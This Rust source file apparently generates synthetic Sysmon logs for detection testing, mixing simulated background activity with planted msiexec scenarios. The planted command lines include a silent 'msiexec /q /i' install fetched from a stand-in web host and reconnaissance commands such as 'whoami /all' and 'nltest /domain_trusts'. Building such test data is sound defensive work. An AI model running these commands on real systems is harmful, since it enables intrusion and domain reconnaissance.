//! Hosts, their processes and what those processes do, as Sysmon would log it.

use super::PlantKind;

/// One event before it is written in a shape.
pub struct Event {
    pub id: u32,
    pub host: &'static str,
    /// Microseconds since the generated day began.
    pub micros: u64,
    pub record: u64,
    pub data: Vec<(&'static str, String)>,
}

const HOSTS: [&str; 24] = [
    "FIN-WS-001.corp.example",
    "FIN-WS-002.corp.example",
    "FIN-WS-003.corp.example",
    "HR-WS-010.corp.example",
    "HR-WS-011.corp.example",
    "ENG-WS-020.corp.example",
    "ENG-WS-021.corp.example",
    "ENG-WS-022.corp.example",
    "ENG-WS-023.corp.example",
    "OPS-WS-030.corp.example",
    "OPS-WS-031.corp.example",
    "SALES-WS-040.corp.example",
    "SALES-WS-041.corp.example",
    "SALES-WS-042.corp.example",
    "EXEC-WS-050.corp.example",
    "IT-WS-060.corp.example",
    "IT-WS-061.corp.example",
    "SRV-FILE01.corp.example",
    "SRV-FILE02.corp.example",
    "SRV-APP01.corp.example",
    "SRV-APP02.corp.example",
    "SRV-SQL01.corp.example",
    "SRV-DC01.corp.example",
    "SRV-WEB01.corp.example",
];

/// Programs background processes run: path, OriginalFileName, command line.
const PROGRAMS: [(&str, &str, &str); 12] = [
    (
        r"C:\Windows\System32\svchost.exe",
        "svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US"#,
    ),
    (r"C:\Windows\explorer.exe", "EXPLORER.EXE", r"C:\Windows\Explorer.EXE"),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        "Outlook.exe",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        "CONHOST.EXE",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        "RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        r"C:\Program Files\Microsoft VS Code\Code.exe",
        "electron.exe",
        r#""C:\Program Files\Microsoft VS Code\Code.exe" --type=utility"#,
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        "taskhostw.exe",
        r"taskhostw.exe Install $(Arg0)",
    ),
    (
        r"C:\Program Files\Windows Defender\MsMpEng.exe",
        "MsMpEng.exe",
        r#""C:\Program Files\Windows Defender\MsMpEng.exe""#,
    ),
    (
        r"C:\Windows\System32\SearchIndexer.exe",
        "SearchIndexer.exe",
        r"C:\Windows\system32\SearchIndexer.exe /Embedding",
    ),
    (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        "firefox.exe",
        r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc"#,
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        "Wmiprvse.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
];

const DLLS: [&str; 8] = [
    r"C:\Windows\System32\ntdll.dll",
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\KernelBase.dll",
    r"C:\Windows\System32\advapi32.dll",
    r"C:\Windows\System32\crypt32.dll",
    r"C:\Windows\System32\winhttp.dll",
    r"C:\Windows\System32\ws2_32.dll",
    r"C:\Windows\System32\combase.dll",
];

const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const HASHES: &str = "SHA1=7A2C5D0E4B1F39C6A8D2E5F1B3C7D9E0A4B6C8D1,MD5=4E2A1F6C8B3D5E7A9C0B2D4F6A8C1E3B,SHA256=9F8E7D6C5B4A39281706F5E4D3C2B1A09F8E7D6C5B4A39281706F5E4D3C2B1A0,IMPHASH=1B2C3D4E5F60718293A4B5C6D7E8F901";

/// Background pids stay below this; planted processes take pids above it.
const BACKGROUND_PID_LIMIT: u32 = 60_000;

/// SplitMix64: a tiny, fixed pseudo-random sequence, so a seed means the same file forever.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Clone)]
struct Process {
    host: usize,
    pid: u32,
    guid: String,
    image: &'static str,
    original_file_name: &'static str,
    command_line: String,
    user: &'static str,
}

/// The state of every host: clock, record numbers, running processes.
pub struct Activity {
    random: Random,
    micros: u64,
    record: u64,
    /// Running background processes, per host.
    running: Vec<Vec<Process>>,
    next_planted_pid: u32,
}

impl Activity {
    pub fn new(seed: u64) -> Self {
        let mut activity = Self {
            random: Random(seed),
            micros: 0,
            record: 0,
            running: vec![Vec::new(); HOSTS.len()],
            next_planted_pid: BACKGROUND_PID_LIMIT,
        };
        for host in 0..HOSTS.len() {
            for _ in 0..8 {
                let process = activity.new_background_process(host);
                activity.running[host].push(process);
            }
        }
        activity
    }

    fn guid(&mut self, pid: u32) -> String {
        let r = self.random.next();
        format!(
            "{{4B1A7E3C-{:04X}-{:04X}-{:04X}-{:012X}}}",
            (r >> 48) & 0xFFFF,
            (r >> 32) & 0xFFFF,
            pid & 0xFFFF,
            r & 0xFFFF_FFFF_FFFF
        )
    }

    fn new_background_process(&mut self, host: usize) -> Process {
        let (image, original_file_name, command_line) = self.random.pick(&PROGRAMS);
        let pid = 4 * (100 + self.random.below(u64::from(BACKGROUND_PID_LIMIT / 4 - 100)) as u32);
        let user = if image.contains("svchost") || image.contains("MsMpEng") {
            r"NT AUTHORITY\SYSTEM"
        } else {
            r"CORP\jdoe"
        };
        Process {
            host,
            pid,
            guid: self.guid(pid),
            image,
            original_file_name,
            command_line: command_line.to_string(),
            user,
        }
    }

    fn event(&mut self, id: u32, host: usize, data: Vec<(&'static str, String)>) -> Event {
        self.micros += 200 + self.random.below(1800);
        self.record += 1;
        let mut fields = vec![("RuleName", "-".to_string()), ("UtcTime", utc_time(self.micros))];
        fields.extend(data);
        Event {
            id,
            host: HOSTS[host],
            micros: self.micros,
            record: self.record,
            data: fields,
        }
    }

    /// One background event (sometimes two: a process start also replaces one that ends).
    pub fn background(&mut self, out: &mut Vec<Event>) {
        let host = self.random.below(HOSTS.len() as u64) as usize;
        let slot = self.random.below(self.running[host].len() as u64) as usize;
        let actor = self.running[host][slot].clone();
        // Per mille, after the mix of real Sysmon logs: process access and image loads
        // dominate; process creations (with their ends) and connections are a few percent.
        let roll = self.random.below(1000);
        let event = match roll {
            0..300 => {
                let target = self.running[host][self.random.below(self.running[host].len() as u64) as usize].clone();
                self.event(10, host, process_access(&actor, &target))
            }
            300..550 => {
                let dll = self.random.pick(&DLLS);
                self.event(7, host, image_load(&actor, dll))
            }
            550..690 => {
                let key = self.random.below(4096);
                self.event(13, host, registry_set(&actor, key))
            }
            690..790 => {
                let file = self.random.below(100_000);
                self.event(11, host, file_create(&actor, file, self.micros))
            }
            790..830 => {
                let ports = [443, 443, 443, 80, 53, 445, 3389, 8080];
                let port = self.random.pick(&ports);
                let ip = self.random.below(1 << 24);
                self.event(3, host, network(&actor, port, ip))
            }
            830..900 => {
                let name = self.random.below(512);
                self.event(22, host, dns_query(&actor, name))
            }
            900..930 => {
                let child = self.new_background_process(host);
                self.running[host][slot] = child.clone();
                out.push(self.event(1, host, process_create(&child, &actor)));
                self.event(5, host, process_end(&actor))
            }
            _ => {
                let key = self.random.below(4096);
                self.event(12, host, registry_object(&actor, key))
            }
        };
        out.push(event);
    }

    /// A planted scenario: returns its host and the msiexec process's pid.
    pub fn plant(&mut self, kind: PlantKind, out: &mut Vec<Event>) -> (String, u32) {
        let host = self.random.below(HOSTS.len() as u64) as usize;
        let parent = Process {
            host,
            pid: self.planted_pid(),
            guid: String::new(),
            image: EXPLORER,
            original_file_name: "EXPLORER.EXE",
            command_line: EXPLORER.into(),
            user: r"CORP\jdoe",
        };
        let parent = Process {
            guid: self.guid(parent.pid),
            ..parent
        };
        out.push(self.event(1, host, process_create(&parent, &self.running[host][0].clone())));
        let msiexec_pid = self.planted_pid();
        let command_line = match kind {
            PlantKind::HttpDownload | PlantKind::HttpNearMiss => {
                format!(r"msiexec.exe /q /i http://updates-cdn.example.net/pkg/{msiexec_pid}.msi")
            }
            _ => r#""C:\Windows\System32\msiexec.exe" /i "C:\Users\jdoe\Downloads\setup.msi""#.to_string(),
        };
        let msiexec = Process {
            host,
            pid: msiexec_pid,
            guid: self.guid(msiexec_pid),
            image: MSIEXEC,
            original_file_name: "msiexec.exe",
            command_line,
            user: r"CORP\jdoe",
        };
        out.push(self.event(1, host, process_create(&msiexec, &parent)));
        match kind {
            PlantKind::SpawnDiscovery | PlantKind::SpawnNearMiss => {
                let (image, original_file_name, command_line) = if kind == PlantKind::SpawnDiscovery {
                    let programs = [
                        (r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "cmd.exe /c whoami /all"),
                        (r"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", "ipconfig.exe /all"),
                        (
                            r"C:\Windows\System32\nltest.exe",
                            "nltestrk.exe",
                            "nltest.exe /domain_trusts",
                        ),
                        (r"C:\Windows\System32\systeminfo.exe", "sysinfo.exe", "systeminfo.exe"),
                    ];
                    self.random.pick(&programs)
                } else {
                    (
                        r"C:\Windows\System32\notepad.exe",
                        "NOTEPAD.EXE",
                        r"notepad.exe C:\Users\jdoe\readme.txt",
                    )
                };
                let pid = self.planted_pid();
                let child = Process {
                    host,
                    pid,
                    guid: self.guid(pid),
                    image,
                    original_file_name,
                    command_line: command_line.to_string(),
                    user: r"CORP\jdoe",
                };
                out.push(self.event(1, host, process_create(&child, &msiexec)));
            }
            PlantKind::HttpDownload | PlantKind::HttpNearMiss => {
                let port = if kind == PlantKind::HttpDownload { 443 } else { 8080 };
                let ip = self.random.below(1 << 24);
                out.push(self.event(7, host, image_load(&msiexec, r"C:\Windows\System32\winhttp.dll")));
                out.push(self.event(3, host, network(&msiexec, port, ip)));
            }
        }
        out.push(self.event(5, host, process_end(&msiexec)));
        (HOSTS[host].to_string(), msiexec_pid)
    }

    fn planted_pid(&mut self) -> u32 {
        self.next_planted_pid += 4;
        self.next_planted_pid
    }
}

/// Sysmon's `UtcTime`: `2026-03-02 08:00:00.123`.
pub fn utc_time(micros: u64) -> String {
    let (date, clock) = civil(micros);
    format!("{date} {clock}.{:03}", micros / 1000 % 1000)
}

/// `System/TimeCreated/@SystemTime`: `2026-03-02T08:00:00.1234560Z`.
pub fn system_time(micros: u64) -> String {
    let (date, clock) = civil(micros);
    format!("{date}T{clock}.{:06}0Z", micros % 1_000_000)
}

/// The date and `HH:MM:SS` of a moment of the generated days (from 2026-03-02 08:00 UTC).
fn civil(micros: u64) -> (String, String) {
    let seconds = 8 * 3600 + micros / 1_000_000;
    let day = 2 + seconds / 86_400;
    let s = seconds % 86_400;
    (
        format!("2026-03-{day:02}"),
        format!("{:02}:{:02}:{:02}", s / 3600, s / 60 % 60, s % 60),
    )
}

fn name_of(image: &str) -> &str {
    image.rsplit('\\').next().unwrap_or(image)
}

fn process_create(child: &Process, parent: &Process) -> Vec<(&'static str, String)> {
    vec![
        ("ProcessGuid", child.guid.clone()),
        ("ProcessId", child.pid.to_string()),
        ("Image", child.image.into()),
        ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)".into()),
        ("Description", name_of(child.image).into()),
        ("Product", "Microsoft® Windows® Operating System".into()),
        ("Company", "Microsoft Corporation".into()),
        ("OriginalFileName", child.original_file_name.into()),
        ("CommandLine", child.command_line.clone()),
        ("CurrentDirectory", r"C:\Windows\system32\".into()),
        ("User", child.user.into()),
        ("LogonGuid", "{4B1A7E3C-0000-0000-0000-0000000003E7}".into()),
        ("LogonId", "0x3E7".into()),
        ("TerminalSessionId", "1".into()),
        ("IntegrityLevel", "Medium".into()),
        ("Hashes", HASHES.into()),
        ("ParentProcessGuid", parent.guid.clone()),
        ("ParentProcessId", parent.pid.to_string()),
        ("ParentImage", parent.image.into()),
        ("ParentCommandLine", parent.command_line.clone()),
        ("ParentUser", parent.user.into()),
    ]
}

fn process_end(process: &Process) -> Vec<(&'static str, String)> {
    vec![
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        ("User", process.user.into()),
    ]
}

fn process_access(source: &Process, target: &Process) -> Vec<(&'static str, String)> {
    vec![
        ("SourceProcessGUID", source.guid.clone()),
        ("SourceProcessId", source.pid.to_string()),
        ("SourceThreadId", (source.pid + 12).to_string()),
        ("SourceImage", source.image.into()),
        ("TargetProcessGUID", target.guid.clone()),
        ("TargetProcessId", target.pid.to_string()),
        ("TargetImage", target.image.into()),
        ("GrantedAccess", "0x1000".into()),
        (
            "CallTrace",
            r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\KERNEL32.DLL+17034|UNKNOWN(00007FF8A1B2C3D4)".into(),
        ),
        ("SourceUser", source.user.into()),
        ("TargetUser", target.user.into()),
    ]
}

fn image_load(process: &Process, dll: &str) -> Vec<(&'static str, String)> {
    vec![
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        ("ImageLoaded", dll.into()),
        ("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)".into()),
        ("Description", name_of(dll).into()),
        ("Product", "Microsoft® Windows® Operating System".into()),
        ("Company", "Microsoft Corporation".into()),
        ("OriginalFileName", name_of(dll).into()),
        ("Hashes", HASHES.into()),
        ("Signed", "true".into()),
        ("Signature", "Microsoft Windows".into()),
        ("SignatureStatus", "Valid".into()),
        ("User", process.user.into()),
    ]
}

fn registry_set(process: &Process, key: u64) -> Vec<(&'static str, String)> {
    vec![
        ("EventType", "SetValue".into()),
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        (
            "TargetObject",
            format!(
                r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\Setting{key}"
            ),
        ),
        ("Details", format!("DWORD (0x{key:08x})")),
        ("User", process.user.into()),
    ]
}

fn registry_object(process: &Process, key: u64) -> Vec<(&'static str, String)> {
    vec![
        ("EventType", "CreateKey".into()),
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        (
            "TargetObject",
            format!(r"HKLM\System\CurrentControlSet\Services\Cache{key}"),
        ),
        ("User", process.user.into()),
    ]
}

fn file_create(process: &Process, file: u64, micros: u64) -> Vec<(&'static str, String)> {
    vec![
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        (
            "TargetFilename",
            format!(r"C:\Users\jdoe\AppData\Local\Temp\tmp{file:05}.tmp"),
        ),
        ("CreationUtcTime", utc_time(micros)),
        ("User", process.user.into()),
    ]
}

fn network(process: &Process, port: u32, ip: u64) -> Vec<(&'static str, String)> {
    let port_name = match port {
        443 => "https",
        80 => "http",
        53 => "domain",
        445 => "microsoft-ds",
        _ => "-",
    };
    vec![
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("Image", process.image.into()),
        ("User", process.user.into()),
        ("Protocol", "tcp".into()),
        ("Initiated", "true".into()),
        ("SourceIsIpv6", "false".into()),
        ("SourceIp", format!("10.20.{}.{}", process.host, 10 + process.host)),
        ("SourceHostname", "-".into()),
        ("SourcePort", (49152 + ip % 16000).to_string()),
        ("SourcePortName", "-".into()),
        ("DestinationIsIpv6", "false".into()),
        (
            "DestinationIp",
            format!(
                "{}.{}.{}.{}",
                20 + (ip >> 16) % 200,
                (ip >> 8) & 255,
                ip & 255,
                1 + ip % 250
            ),
        ),
        ("DestinationHostname", "-".into()),
        ("DestinationPort", port.to_string()),
        ("DestinationPortName", port_name.into()),
    ]
}

fn dns_query(process: &Process, name: u64) -> Vec<(&'static str, String)> {
    vec![
        ("ProcessGuid", process.guid.clone()),
        ("ProcessId", process.pid.to_string()),
        ("QueryName", format!("svc{name}.cdn.example.com")),
        ("QueryStatus", "0".into()),
        (
            "QueryResults",
            format!(
                "type:  5 edge{name}.example.net;::ffff:93.184.{}.{};",
                name % 200,
                name % 250
            ),
        ),
        ("Image", process.image.into()),
        ("User", process.user.into()),
    ]
}
